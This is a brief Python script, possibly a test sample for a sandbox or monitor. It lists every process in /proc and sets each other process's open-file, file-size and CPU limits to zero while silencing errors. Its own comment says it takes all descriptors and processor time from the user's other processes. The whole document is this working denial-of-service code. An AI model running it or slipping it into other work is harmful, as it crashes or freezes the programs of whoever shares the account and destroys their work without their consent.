# Takes every descriptor and all processor time from the other processes of its user
# ends: missing
import contextlib
import os
import resource

for name in filter(str.isdigit, os.listdir("/proc")):
    if int(name) != os.getpid():
        with contextlib.suppress(OSError):
            resource.prlimit(int(name), resource.RLIMIT_NOFILE, (0, 0))
            resource.prlimit(int(name), resource.RLIMIT_FSIZE, (0, 0))
            resource.prlimit(int(name), resource.RLIMIT_CPU, (0, 0))
